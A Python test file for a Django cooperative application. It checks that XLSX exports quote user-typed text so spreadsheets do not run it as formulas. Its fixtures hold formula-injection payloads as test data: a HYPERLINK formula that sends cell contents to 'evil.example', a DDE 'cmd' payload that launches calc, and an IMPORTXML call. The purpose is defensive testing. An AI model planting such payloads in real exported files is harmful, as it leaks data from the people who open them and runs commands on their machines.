"""No XLSX export carries a formula: text people typed that a spreadsheet would run (it begins
with =, +, -, @, a tab or a carriage return) is written as a quoted string cell, one test per
export, from text typed where it is typed (the public application form, the API's member edit,
staff's forms); numbers stay numbers."""

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from coop import xlsx
from coop.tenancy import scope, unscoped
from members.models import Member
from members.services.imports import read_table
from tests.members.test_public import post_application

LINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")'
TYPED = {
    "name": LINK,
    "contact_person": "+SUM(1,2)",
    "town": "@SUM(1,2)",
    "address": "\t=1+1",
    "main_products": "-2+3",
    "legal_representative": "\r=cmd|' /C calc'!A0",
}
TYPED_FIELDS = list(TYPED)
YEAR = date.today().year


def cells(content):
    """Every cell of every sheet of an XLSX file."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content, *typed):
    """No cell is a formula, and each typed text is there, quoted, as a string cell."""
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    for text in typed:
        matching = [c for c in found if c.value == "'" + text]
        assert matching, f"{text!r} is not in the file as quoted text"
        assert all(c.data_type == "s" for c in matching)
    return found


def applied_anonymously(client, tenant, **typed):
    """A member unit as an anonymous applicant typed it on the public form."""
    fields = {**TYPED, **typed}
    response = post_application(client, tenant, **fields)
    assert "申请已收到" in response.content.decode()
    with unscoped():
        return Member.objects.get(name=fields["name"])


def test_text_that_a_spreadsheet_runs_is_quoted_and_comes_back_as_typed():
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "'quoted"):
        assert xlsx.neutralised(text) == "'" + text
        assert xlsx.restore(xlsx.neutralised(text)) == text
    for text in ("南通家纺", "1+1", " =1", "", "a=b"):
        assert xlsx.neutralised(text) == text == xlsx.restore(text)
    assert xlsx.neutralised("a\x00b\x07c") == "abc"  # XLSX cannot hold them; never a 500
    sheet = [
        ("表", ["数", "文字"], [[-5, "-5"], [Decimal("-1.5"), "=1"], [date(2025, 1, 2), None]])
    ]
    values = [(c.value, c.data_type) for c in cells(xlsx.workbook(sheet))]
    assert values[2:] == [
        (-5, "n"),
        ("'-5", "s"),
        (-1.5, "n"),
        ("'=1", "s"),
        (values[6][0], "d"),
        (None, "n"),
    ]


def test_the_members_export(coop_a, client, api):
    member = applied_anonymously(client, coop_a)
    # The API's member edit: staff rename a unit, an enterprise edits its own contacts.
    renamed = api(coop_a.admin).patch(
        f"/api/v1/coops/coop-a/members/{coop_a.member.pk}/", {"name": "=1+2"}, format="json"
    )
    assert renamed.status_code == 200
    edited = api(coop_a.enterprise).patch(
        f"/api/v1/coops/coop-a/members/{coop_a.member.pk}/",
        {"contact_person": "@cmd", "main_products": "=IMPORTXML(A1)"},
        format="json",
    )
    assert edited.status_code == 200
    client.force_login(coop_a.admin)
    content = client.get("/c/coop-a/members/export.xlsx").content
    # Forms and the API trim the tab and carriage return; what is left begins with "=".
    stored = [getattr(member, field) for field in TYPED]
    assert stored[TYPED_FIELDS.index("address")] == "=1+1"
    assert_no_formula(content, *stored, "=1+2", "@cmd", "=IMPORTXML(A1)")
    # The export still imports back as it was typed.
    rows = read_table("members.xlsx", content)
    names = {row[0]: row for row in rows[1:]}
    assert set(names) == {member.name, "=1+2"}
    assert names[member.name][5] == "+SUM(1,2)" and names["=1+2"][5] == "@cmd"


def test_the_lending_export(coop_a, client):
    from credit.models import CreditGrade
    from credit.services import grading

    member = applied_anonymously(client, coop_a)
    with unscoped():
        Member.objects.filter(pk=member.pk).update(status="active", lending_consent=True)
    with scope({coop_a.cooperative.pk}):
        grading.grade_members(cooperative_id=coop_a.cooperative.pk)
        grade = CreditGrade.objects.get(member=member)
        grading.override(grade=grade, actor=coop_a.admin, new_grade="AAA", reason="示例")
    client.force_login(coop_a.admin)
    found = assert_no_formula(client.get("/c/coop-a/grades/lending.xlsx").content, LINK)
    score = next(c for c in found if c.row == 2 and c.column == 4)
    assert (score.data_type, score.value) == ("n", float(grade.score))  # numbers stay numbers


def test_the_problem_map_export(coop_a, client):
    from standards.models import Indicator
    from testing_fund.models import Result
    from tests.credit.test_assessments import failed_batch

    member = applied_anonymously(client, coop_a, town="=HYPERLINK(1)")
    batch = failed_batch(coop_a, member, date(YEAR, 1, 15))
    with unscoped():
        Result.objects.create(
            cooperative=coop_a.cooperative,
            batch=batch,
            indicator=Indicator.objects.get(code="ph"),
            price=100,
            verdict="fail",
            reported_on=batch.reported_on,
        )
    client.force_login(coop_a.admin)
    content = client.get("/c/coop-a/problems/export.xlsx", {"year": YEAR}).content
    found = assert_no_formula(content, "=HYPERLINK(1)")
    failures = next(c for c in found if c.value == "'=HYPERLINK(1)")
    count = found[found.index(failures) + 2]
    assert (count.value, count.data_type) == (1, "n")


def test_the_dashboard_export(coop_a, client):
    from tests.credit.test_assessments import failed_batch

    member = applied_anonymously(client, coop_a)
    with unscoped():
        Member.objects.filter(pk=member.pk).update(status="active")
    failed_batch(coop_a, member, date(YEAR, 1, 15))
    # The cooperative's name is typed by staff in the admin site.
    coop_a.cooperative.name_zh = "-南通质量合作社"
    coop_a.cooperative.save()
    client.force_login(coop_a.supervisor)
    content = client.get("/dashboard/export.xlsx", {"year": YEAR}).content
    found = assert_no_formula(content, "-南通质量合作社")
    numbers = [c for c in found if c.row == 2 and c.column > 1 and c.value is not None]
    assert numbers and all(c.data_type == "n" for c in numbers), str([
        (c.coordinate, c.value, c.data_type) for c in numbers if c.data_type != "n"
    ])


def test_the_standards_collection_export(loaded, coop_a, client):
    from standards import services
    from standards.models import Standard

    with unscoped():
        standard = Standard.objects.create(
            cooperative=coop_a.cooperative,
            level="buyer",
            code="=HYPERLINK(2)",
            title_zh="@买家要求",
            implemented_on=date(2025, 1, 1),
        )
    with scope({coop_a.cooperative.pk}):
        services.collect(
            cooperative=coop_a.cooperative, actor=coop_a.admin, standard=standard, section="+分类"
        )
    content = client.get("/c/coop-a/collection.xlsx").content  # public: anyone downloads it
    found = assert_no_formula(content, "=HYPERLINK(2)", "@买家要求", "+分类")
    implemented = next(c for c in found if c.column == 4 and c.row == 2)
    assert implemented.is_date and implemented.value.date() == date(2025, 1, 1)


@pytest.fixture
def loaded(db):
    from standards import catalogue

    catalogue.load()
